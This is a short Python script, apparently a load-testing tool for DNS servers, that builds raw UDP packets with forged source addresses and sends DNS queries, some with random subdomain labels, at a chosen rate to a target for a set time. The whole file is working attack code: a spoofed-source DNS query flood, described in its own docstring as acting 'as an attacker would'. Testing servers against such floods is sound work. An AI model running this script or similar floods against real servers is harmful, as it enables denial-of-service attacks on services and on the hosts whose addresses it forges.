"""Sends queries whose source is forged, as an attacker would; prints how many it sent.

flood.py TARGET PORT PREFIX SECONDS RATE NAME/TYPE...     (a # in a name becomes a random label)
"""
import random
import socket
import struct
import sys
import time

import dnsclient

PACKETS = 6000  # made before the first is sent, then sent in turns
EVERY_S = 0.01


def packet(source, target, port, payload):
    length = 20 + 8 + len(payload)
    # The kernel fills in the checksum of the IPv4 header; UDP may go without (RFC 768).
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head + struct.pack("!4H", random.randrange(1024, 65536), port, length - 20, 0) + payload


def main():
    target, port, prefix, seconds, rate = sys.argv[1:6]
    subjects = [subject.rsplit("/", 1) for subject in sys.argv[6:]]
    packets = []
    for i in range(PACKETS):
        name, qtype = subjects[i % len(subjects)]
        name = name.replace("#", "r%d" % random.randrange(10 ** 9))
        _, query = dnsclient.make_query(name, qtype)
        packets.append(packet(prefix + str(random.randrange(100, 250)), target, int(port), query))
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        begin = time.monotonic()
        while (now := time.monotonic() - begin) < float(seconds):
            while sent < now * int(rate):
                sock.sendto(packets[sent % PACKETS], (target, 0))
                sent += 1
            time.sleep(EVERY_S)
    print(sent)


if __name__ == "__main__":
    main()
